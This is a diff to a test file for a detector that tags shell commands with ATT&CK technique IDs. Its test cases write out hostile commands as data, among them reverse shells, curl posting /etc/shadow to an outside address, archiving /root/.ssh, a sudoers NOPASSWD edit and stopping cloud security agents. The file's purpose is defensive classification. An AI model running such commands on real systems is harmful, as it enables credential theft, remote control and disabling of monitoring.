@@ -1,15 +1,9 @@
 import assert from 'node:assert/strict';
-import { existsSync, readFileSync } from 'node:fs';
 import { test } from 'node:test';
-import { fileURLToPath } from 'node:url';
 import { processorTime } from '../../../test/fixtures/processor-time.ts';
 import { decodePayload } from './decode.ts';
 import { techniqueRules } from './technique-rules.ts';
-import { techniqueNames, techniquesOf } from './techniques.ts';
-
-const data =
-  process.env.WATERGUARD_TEST_DATA ?? fileURLToPath(new URL('../../../../shared/data', import.meta.url));
-const attck = `${data}/intel/attck/techniques.attck-v18.1.min.json`;
+import { techniquesOf } from './techniques.ts';
 
 const nothing = { hosts: [], urls: [] };
 const key = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
@@ -80,6 +74,7 @@ const cases: readonly (readonly [line: string, ids: string])[] = [
   ['./x', ''],
   ["python3 -c 'import os'", 'T1059.006'],
   ['python3.11 x.py', 'T1059.006'],
+  ['python3 -V', ''],
   [`python -c "exec('${'QUFB'.repeat(20)}'.decode('base64'))"`, 'T1027 T1059.006 T1140'],
   [`python -c 'import socket,pty;s=socket.socket();pty.spawn("/bin/sh")'`, 'T1059.006 T1095'],
   ['perl x.pl', 'T1059'],
@@ -90,7 +85,7 @@ const cases: readonly (readonly [line: string, ids: string])[] = [
   ["socat exec:'bash -li',pty tcp:192.0.2.1:4444", 'T1095'],
   ['ssh -i k root@10.0.0.1', 'T1021.004'],
   ['ssh -R 22:localhost:22 u@192.0.2.1', 'T1572'],
-  ['curl --socks5-hostname 127.0.0.1:9050 http://x.onion/i', 'T1090.003'],
+  ['curl --socks5-hostname 127.0.0.1:9050 http://x.onion/i', 'T1090.003 T1105'],
   ['base64 -d', 'T1140'],
   ['base64 x', ''],
   [`echo ${'QUFB'.repeat(12)}`, 'T1027'],
@@ -155,6 +150,20 @@ const cases: readonly (readonly [line: string, ids: string])[] = [
   ['slowloris 192.0.2.1', 'T1499'],
   ["echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", 'T1548.003'],
   ['nohup ./xmrig &', 'T1496.001'],
+  ['/usr/bin/pawns-cli -email a@b.c', 'T1496.002'],
+  ['curl -d @/etc/shadow http://192.0.2.1/x', 'T1003.008 T1048'],
+  ['tar czf /tmp/o.tgz /root/.ssh', 'T1560.001'],
+  ['tar xzf x.tgz', ''],
+  ['scp root@192.0.2.1:/x /tmp/x', 'T1105'],
+  ['scp x.sh root@10.0.0.1:/tmp/', 'T1021.004'],
+  ['scp /tmp/o.tgz u@192.0.2.1:/in', 'T1048'],
+  ['mkdir -p /dev/shm/.x', 'T1564.001'],
+  ['mkdir -p /root/.ssh', ''],
+  ['cp k /tmp/.ICE-unix/k', 'T1564.001'],
+  ['echo 0.0.0.0 pool.example.org >> /etc/hosts', 'T1565.001'],
+  ['/usr/local/cloudmonitor/agent stop', 'T1562.001'],
+  ['/usr/local/qcloud/YunJing/uninst', 'T1562.001'],
+  ['/usr/sbin/cloudmonitor start', ''],
   ['cd /tmp', ''],
 ];
 
@@ -167,9 +176,24 @@ test('several commands are a script of a shell', () => {
   assert.deepEqual(techniquesOf(['cd /tmp', 'cd /'], nothing), ['T1059.004']);
 });
 
+test('a command that another is given is no script', () => {
+  assert.deepEqual(techniquesOf(['docker exec x id', 'id'], nothing), ['T1033', 'T1609']);
+});
+
+test('what is read and sent leaves', () => {
+  const both = (first: string, second: string) => techniquesOf([first, second], nothing).includes('T1048');
+  assert.ok(both('tar cz /root', 'nc 192.0.2.1 99'));
+  assert.ok(!both('cat /tmp/f', 'nc -lvp 99'));
+  assert.ok(!both('cd /tmp', 'nc 192.0.2.1 99'));
+});
+
 test('hosts and URLs tell what no command line shows', () => {
   assert.deepEqual(techniquesOf([], { hosts: ['pool.supportxmr.com'], urls: [] }), ['T1496.001']);
   assert.deepEqual(techniquesOf([], { hosts: [], urls: ['http://169.254.169.254/latest'] }), ['T1552.005']);
+  const ofImage = (name: string) => techniquesOf([], { ...nothing, images: [name] });
+  assert.deepEqual(ofImage('metal3d/xmrig:latest'), ['T1496.001']);
+  assert.deepEqual(ofImage('traffmonetizer/cli'), ['T1496.002']);
+  assert.deepEqual(ofImage('alpine'), []);
 });
 
 test('a whole payload has the techniques of all its stages', () => {
@@ -185,25 +209,10 @@ test('a whole payload has the techniques of all its stages', () => {
   ]);
 });
 
-test('every technique that is told has a name, and every name is of one that is told', () => {
-  const told = new Set(techniqueRules.map(({ id }) => id));
-  assert.deepEqual(Object.keys(techniqueNames).sort(), [...told].sort());
-});
-
-test('names are those of ATT&CK', {
-  skip: existsSync(attck) ? false : 'shared/data/intel/attck is absent',
-}, () => {
-  const known: readonly { readonly id: string; readonly name: string }[] = JSON.parse(
-    readFileSync(attck, 'utf8'),
-  );
-  const names = new Map(known.map(({ id, name }) => [id, name]));
-  for (const [id, name] of Object.entries(techniqueNames)) assert.equal(name, names.get(id), id);
-});
-
 test('every technique that is told has a command here', () => {
   const here = new Set(cases.flatMap(([, ids]) => ids.split(' ')));
   assert.deepEqual(
-    Object.keys(techniqueNames).filter((id) => !here.has(id)),
+    techniqueRules.map(({ id }) => id).filter((id) => !here.has(id)),
     [],
   );
 });
